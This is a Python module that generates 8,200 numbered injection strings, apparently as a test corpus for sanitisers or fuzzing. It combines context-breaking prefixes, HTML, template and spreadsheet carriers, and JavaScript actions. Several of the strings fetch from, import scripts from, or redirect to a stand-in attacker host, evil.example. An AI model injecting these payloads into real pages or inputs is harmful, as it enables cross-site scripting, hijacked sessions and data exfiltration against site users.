"""Hostile strings: markup, scripts, addresses and marks that try to leave the text they stand in; numbered, all different."""

from __future__ import annotations

from itertools import islice, product

ACTS = (
    "alert({0})", "confirm({0})", "prompt({0})", "location='https://evil.example/{0}'", "document.body.innerHTML=''",
    "fetch('https://evil.example/{0}')", "import('https://evil.example/{0}.js')", "window.close()",
)  # fmt: skip
CARRIERS = (
    "<script>{1}</script>", "<img src=x onerror={1}>", "<svg onload={1}>", "<body onpageshow={1}>", "<iframe srcdoc='<script>{1}</script>'>",
    "<a href=\"javascript:{1}\" autofocus onfocus={1}>x</a>", "<math><mtext><style><img src onerror={1}>", "<details open ontoggle={1}>",
    "<link rel=stylesheet href=//evil.example/{0}>", "<meta http-equiv=refresh content='0;url=//evil.example/{0}'>", "<base href=//evil.example/>",
    "<form action=//evil.example/><button>go</button>", "<object data=//evil.example/{0}>", "<template><script>{1}</script></template>",
    "<style>*{{display:none}}@import '//evil.example/{0}'</style>", "javascript:{1}", "{{{{ {1} }}}}", "{{% for x in y %}}{1}", "${{{1}}}",
    "=HYPERLINK(\"//evil.example/{0}\")", "<input autofocus onfocus={1}>", "<video><source onerror={1}></video>", "<table background=//evil.example/{0}>",
    "<x style='background:url(//evil.example/{0})'>", "<marquee onstart={1}>",
)  # fmt: skip
EXITS = (
    "", "\">", "'>", "</p>", "</script>", "</style>", "</title>", "-->", "]]>", "</textarea>", "</svg>", "\" onmouseover=\"{1}\" x=\"",
    "&lt;", "&#60;script&#62;", "\\u003c", "\u2028", "\u202e", "\x00", "\ufeff", "%3Cscript%3E", "</details></article>", "</bdi>",
    "`", "\\", "</q></li></ul>", "<!--", "<![CDATA[", "\r\n\r\n", "\t", "</select>", "\ud83d\ude00", "{0}", "\u200b", "--!>", "</template>",
    "</dl></dd>", "<p/", "<%", "?>", "#", "//",
)  # fmt: skip


def hostile_strings(most: int) -> list[str]:
    """That many different strings (there are 8,200)."""
    made = (
        f"{(exit_ + carrier).format(number, act.format(number))} {number}"
        for number, (exit_, carrier, act) in enumerate(product(EXITS, CARRIERS, ACTS))
    )
    return [text.encode("utf-16", "surrogatepass").decode("utf-16", "replace") for text in islice(made, most)]
